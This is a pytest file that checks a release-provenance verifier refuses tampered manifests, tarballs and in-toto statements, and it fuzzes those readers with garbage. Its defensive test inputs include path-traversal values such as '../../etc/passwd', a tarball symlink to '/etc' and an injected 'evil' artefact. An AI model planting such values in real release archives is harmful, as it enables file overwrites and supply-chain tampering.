    """The manifest changed by ``edit``, and SHA256SUMS made consistent with it."""
    path = published.dist / f"{BASE}-manifest.json"
    data = json.loads(path.read_text())
    edit(data)
    path.write_bytes(provenance.encode(data))
    published.resum()


@pytest.mark.refuses("verify-rebuild-manifest-key-missing-another-type")
@pytest.mark.parametrize(
    ("edit", "words"),
    [
        pytest.param(lambda m: m.pop("triple"), "'triple' is missing", id="missing-key"),
        pytest.param(
            lambda m: m.update(source_date_epoch="1772600767"),
            "'source_date_epoch' is the string '1772600767', not an integer",
            id="wrong-type",
        ),
        pytest.param(lambda m: m.update(locked="yes"), "'locked' is the string 'yes', not true or false", id="bool"),
        pytest.param(lambda m: m.update(features="fast"), "'features' is the string 'fast', not a list", id="list"),
        pytest.param(lambda m: m.pop("toolchain"), "'toolchain' is missing", id="missing-object"),
        pytest.param(lambda m: m["toolchain"].pop("cargo"), "toolchain: 'cargo' is missing", id="nested-missing"),
        pytest.param(
            lambda m: m["artefacts"]["pgo"].update(binary=5),
            "artefacts: pgo: 'binary' is the number 5, not a string",
            id="nested-type",
        ),
        pytest.param(
            lambda m: m["artefacts"]["pgo"].update(binary_sha256="../../x"),
            "artefacts: pgo: 'binary_sha256' is '../../x', not a sha256 (64 hex digits)",
            id="not-a-sha256",
        ),
        pytest.param(lambda m: m["artefacts"].pop("profile"), "artefacts: 'profile' is missing", id="no-profile"),
        pytest.param(
            lambda m: m["artefacts"].update(evil={"file": "extra.sh", "sha256": "00" * 32}),
            "artefacts: 'evil' is not an artefact a release makes",
            id="unknown-artefact",
        ),
        pytest.param(
            lambda m: m["artefacts"]["plain"].update(file="extra.sh"),
            f"artefacts: plain: 'file' is 'extra.sh', the release names it '{BASE}.tar.gz'",
            id="another-file-name",
        ),
        pytest.param(
            lambda m: m["artefacts"]["pgo"].update(binary="../../etc/passwd"),
            f"artefacts: pgo: 'binary' is '../../etc/passwd', the release packs {BASE}-pgo/hello-pgo",
            id="another-binary-name",
        ),
        pytest.param(
            lambda m: m["remap_path_prefix"].append("/x"), "'remap_path_prefix'[3] is not a pair of paths", id="remap"
        ),
        pytest.param(
            lambda m: m.update(bolt={"bolt_args": []}), "'bolt' without the artefact 'pgo_bolt'", id="bolt-without"
        ),
        pytest.param(
            lambda m: m["artefacts"].update(
                pgo_bolt={
                    **m["artefacts"]["pgo"],
                    "file": f"{BASE}-pgo-bolt.tar.gz",
                    "binary": f"{BASE}-pgo-bolt/hello-pgo",
                }
            ),
            "artefacts: 'bolt_profile' is missing",
            id="pgo-bolt-without-its-profile",
        ),
        pytest.param(lambda m: m.update(training=[]), "'training' is a list, not an object", id="training"),
    ],
)
def test_a_manifest_with_a_missing_key_or_a_wrong_type_refused_by_verify_and_rebuild(
    tmp_path: Path, edit: Callable[[dict[str, Any]], object], words: str
) -> None:
    published = publish(tmp_path)
    _edit_manifest(published, edit)
    line = refused(published, f"{BASE}-manifest.json: {words}")
    assert line.endswith("(it is not a manifest nox -s release writes: download it again)"), line
    with pytest.raises(CheckFailed, match=re.escape(f"{BASE}-manifest.json: {words}")):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("verify-rebuild-manifest-file-name-not-one")
def test_a_manifest_named_otherwise_than_its_release_refused(tmp_path: Path) -> None:
    """Its bin, tag and triple name another manifest file (the artefacts renamed to match)."""
    published = publish(tmp_path)
    path = published.dist / f"{BASE}-manifest.json"
    renamed = published.dist / f"hello-v1.0.0-{BASE.split('-v1.0.0-')[1]}-manifest.json"
    path.rename(renamed)
    published.resum()
    words = f"the manifest {renamed.name} names the release {BASE}, whose manifest is {BASE}-manifest.json"
    refused(published, words)
    with pytest.raises(CheckFailed, match=re.escape(words)):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("verify-rebuild-manifest-key-missing-another-type")
def test_a_bin_that_is_a_path_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    _edit_manifest(published, lambda m: m.update(bin="../hello-pgo"))
    refused(published, f"{BASE}-manifest.json: 'bin', 'tag' and 'triple' make '../{BASE}', a path with '..'")


def _repack(published: Published, kind: str, members: list[tuple[tarfile.TarInfo, bytes]]) -> None:
    """The artefact's tarball rewritten with ``members``, and the manifest's, the statements' and SHA256SUMS' sha256s
    rewritten to match it: only the tarball's members tell."""
    artefact = published.manifest["artefacts"][kind]
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    tarball = gzip.compress(raw.getvalue(), mtime=0)
    (published.dist / artefact["file"]).write_bytes(tarball)
    manifest = json.loads((published.dist / f"{BASE}-manifest.json").read_text())
    manifest["artefacts"][kind]["sha256"] = sha256_bytes(tarball)
    files = {name: (published.dist / name).read_bytes() for name in FILES}
    files[f"{BASE}-manifest.json"] = provenance.encode(manifest)
    statements = provenance.release_statements(typed(manifest), files, published.repo, ZIGBUILD)
    for name, data in {**files, **statements}.items():
        (published.dist / name).write_bytes(data)
    published.resum()


def _info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, **attrs: Any) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.mode, info.mtime = kind, size, 0o755, 1772600767
    for key, value in attrs.items():
        setattr(info, key, value)
    return info


@pytest.mark.refuses("verify-rebuild-tarball-holds-link-device-fifo")
def test_verify_a_tarball_whose_members_were_rewritten_refused(tmp_path: Path) -> None:
    """The binary the manifest records, beside a symbolic link out of the folder; every sha256 made to match."""
    published = publish(tmp_path)
    top = f"{BASE}-pgo"
    binary = b"\x7fELF pgo binary"
    members = [
        (_info(top, tarfile.DIRTYPE), b""),
        (_info(f"{top}/hello-pgo", size=len(binary)), binary),
        (_info(f"{top}/lib", tarfile.SYMTYPE, linkname="/etc"), b""),
    ]
    _repack(published, "pgo", members)
    refused(published, f"{top}.tar.gz holds '{top}/lib', a symbolic link to '/etc'", "download the release again")
    _repack(published, "pgo", [*members[:2], (_info(f"{top}/hello-pgo.sh", size=2), b"sh")])
    refused(published, f"{top}.tar.gz holds '{top}/hello-pgo.sh', which the release does not put in it")
    _repack(published, "pgo", [members[0], (_info(f"{top}/hello-pgo", size=len(binary), uid=1000), binary)])
    refused(published, f"{top}.tar.gz has '{top}/hello-pgo' owned by uid 1000 gid 0")


@pytest.mark.refuses("verify-rebuild-tarball-not-gzip-not-tar")
def test_verify_a_tarball_that_is_not_one_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    name = f"{BASE}-pgo.tar.gz"
    tarball = published.dist / name
    tarball.write_bytes(tarball.read_bytes()[:-20])
    _edit_manifest(published, lambda m: m["artefacts"]["pgo"].update(sha256=sha256_file(tarball)))
    files = {n: (published.dist / n).read_bytes() for n in FILES}
    manifest = json.loads((published.dist / f"{BASE}-manifest.json").read_text())
    for n, data in provenance.release_statements(typed(manifest), files, published.repo, ZIGBUILD).items():
        (published.dist / n).write_bytes(data)
    published.resum()
    refused(published, f"{name} is not a whole .tar.gz: the gzip stream ends early (truncated)")


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        pytest.param(
            lambda s: s["predicate"].update(buildDefinition=[]),
            "records no zig and cargo-zigbuild",  # read from there: not found in a list
            id="definition-a-list",
        ),
        pytest.param(
            lambda s: s["predicate"]["buildDefinition"].update(resolvedDependencies={"a": 1}),
            "records no zig and cargo-zigbuild",
            id="dependencies-an-object",
        ),
        pytest.param(
            lambda s: s["predicate"]["buildDefinition"]["resolvedDependencies"].append({"name": ["x"]}),
            "predicate.buildDefinition.resolvedDependencies is [",
            id="a-name-that-is-a-list",
        ),
        pytest.param(
            lambda s: [
                d.pop("digest")
                for d in s["predicate"]["buildDefinition"]["resolvedDependencies"]
                if d["name"] == "hello/Cargo.lock"
            ],
            "predicate.buildDefinition.resolvedDependencies is [",
            id="a-lock-without-digest",
        ),
        pytest.param(
            lambda s: s.update(subject="x"), 'subject is "x", the artefact and the manifest say [', id="subject"
        ),
    ],
)
def test_verify_a_statement_of_wrong_types_refused(
    tmp_path: Path, edit: Callable[[dict[str, Any]], object], words: str
) -> None:
    published = publish(tmp_path)
    path = published.statement(f"{BASE}-pgo.profdata")
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(json.dumps(data))
    published.resum()
    refused(published, f"{BASE}-pgo.profdata.intoto.json", words)


@pytest.mark.refuses("verify-rebuild-artefacts-folder-dangling-symbolic-link")
def test_verify_and_rebuild_of_a_folder_that_is_a_dangling_link_or_a_file_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "gone")
    words = f"no artefacts of v1.0.0 at {link}: it is a dangling symbolic link (to {tmp_path / 'gone'})"
    with pytest.raises(MissingInput, match=re.escape(words)):
        provenance.verify("v1.0.0", link, published.repo, clean_env())
    with pytest.raises(MissingInput, match=re.escape(words)):
        load_published(link, "v1.0.0")
    afile = tmp_path / "afile"
    afile.write_text("x")
    with pytest.raises(MissingInput, match=re.escape(f"no artefacts of v1.0.0 at {afile}: it is not a directory")):
        provenance.verify("v1.0.0", afile, published.repo, clean_env())


def _bolt_manifest() -> dict[str, Any]:
    """The manifest of a release with PGO_BOLT=1, as recipes/release/make.py's _bolt_artefact adds to it."""
    data = manifest()
    data["bolt"] = {
        "profile_store_path": "/tmp/hello-pgo-pgo/" + "ef" * 32 + ".fdata",
        "profile_sha256": "ef" * 32,
        "llvm_bolt": "LLVM 22.1.8 (/usr/bin/llvm-bolt-22)",
        "llvm_strip": "LLVM 22.1.8 (/usr/bin/llvm-strip-22)",
        "bolt_args": ["-reorder-blocks=ext-tsp"],
        "emit_relocs": True,
        "profile": {
            "functions_with_profile": 40,
            "total_functions": 900,
            "profile_branches": 1,
            "profile_functions": 2,
        },
    }
    data["artefacts"]["pgo_bolt"] = {
        "file": f"{BASE}-pgo-bolt.tar.gz",
        "sha256": "aa" * 32,
        "binary": f"{BASE}-pgo-bolt/hello-pgo",
        "binary_sha256": "bb" * 32,
    }
    data["artefacts"]["bolt_profile"] = {"file": f"{BASE}-pgo-bolt.fdata", "sha256": "ef" * 32}
    return data


def test_a_bolt_manifest_parsed_and_the_files_of_its_release() -> None:
    assert provenance.release_files(typed(_bolt_manifest())) == {
        f"{BASE}-manifest.json": "the manifest",
        **{f"{BASE}{end}": f"the {kind} artefact" for kind, end in (("plain", ".tar.gz"), ("pgo", "-pgo.tar.gz"))},
        **{f"{BASE}{end}": f"the {kind} artefact" for kind, end in (("profile", "-pgo.profdata"),)},
        f"{BASE}-pgo-bolt.tar.gz": "the pgo_bolt artefact",
        f"{BASE}-pgo-bolt.fdata": "the bolt_profile artefact",
        **{
            f"{BASE}{end}.intoto.json": f"the provenance statement of {BASE}{end}"
            for end in (".tar.gz", "-pgo.tar.gz", "-pgo.profdata", "-pgo-bolt.tar.gz", "-pgo-bolt.fdata")
        },
    }
    data = _bolt_manifest()
    data["bolt"]["profile"]["total_functions"] = "900"
    with pytest.raises(CheckFailed, match=r"m.json: bolt: profile: 'total_functions' is the string '900', not an"):
        typed(data)
    data = _bolt_manifest()
    del data["bolt"]
    with pytest.raises(CheckFailed, match=r"m.json: 'bolt' is missing"):
        typed(data)


def test_garbage_in_the_release_readers_is_one_line(tmp_path: Path) -> None:
    """SHA256SUMS, the manifest and a statement fed garbage bytes, truncations and every key of a real one
    deleted or given every other type: a PgoError or a value, never another exception."""
    rng = random.Random(19)
    real_sums = sha256sums_text({name: sha256_bytes(data) for name, data in FILES.items()}).encode()
    folder = tmp_path / "release"
    folder.mkdir()
    for data in hostile.garbage(real_sums, rng, 60):
        (folder / "SHA256SUMS").write_bytes(data)
        with contextlib.suppress(PgoError):
            provenance.read_sums(folder)
    for _what, changed in hostile.mutations(manifest()):
        with contextlib.suppress(PgoError):
            typed(changed)
    good = typed(manifest())
    statement_file = tmp_path / f"{BASE}-pgo.tar.gz.intoto.json"
    real_statement = written()[statement_file.name]
    sha = sha256_bytes(FILES[f"{BASE}-pgo.tar.gz"])
    for _what, changed in hostile.mutations(real_statement):
        statement_file.write_text(json.dumps(changed))
        with contextlib.suppress(PgoError):
            provenance.check_statement(statement_file, good, "pgo", sha)
    for data in hostile.garbage(json.dumps(real_statement).encode(), rng, 30):
        statement_file.write_bytes(data)
        with contextlib.suppress(PgoError):
            provenance.check_statement(statement_file, good, "pgo", sha)


STATEMENTS_BEFORE = DATA / "release" / "hello-pgo-bolt-statements.json"


def _unit_manifests() -> dict[str, dict[str, Any]]:
    from tests.unit.test_rebuild_c import C_CODE  # noqa: PLC0415

    before = manifest(workload=None, workload_sha256=None)
    del before["training"]
    return {"unit": manifest(), "unit_c_code": manifest(c_code=C_CODE), "unit_of_before": before}


def test_the_statements_are_those_written_before_the_manifest_was_typed() -> None:
    """tests/data/release/hello-pgo-bolt-statements.json holds the statements the code of before the typed manifest
    wrote (of the captured PGO+BOLT manifest, without and with a Cargo.lock and zig, and of this file's manifests):
    the statements written now are the same, byte for byte."""
    captured = json.loads(STATEMENTS_BEFORE.read_text())
    data = json.loads((DATA / "release" / "hello-pgo-bolt-manifest.json").read_text())
    for label, extras in (("plain", {}), ("with_lock_and_zig", {"cargo_lock": LOCK, "zigbuild": ZIGBUILD})):
        release = typed(data)
        pred = provenance.predicate(release, **extras)  # type: ignore[arg-type]
        made = {
            provenance.statement_name(provenance.artefact(release, kind).file): provenance.encode(
                provenance.statement(
                    provenance.subjects(release, kind, provenance.artefact(release, kind).sha256), pred
                )
            )
            for kind in release.artefacts.kinds()
        }
        assert made == {name: provenance.encode(one) for name, one in captured[label].items()}
    for label, one in _unit_manifests().items():
        made = provenance.statements(typed(one), FILES, cargo_lock=LOCK, zigbuild=ZIGBUILD)
        assert made == {name: provenance.encode(s) for name, s in captured[label].items()}
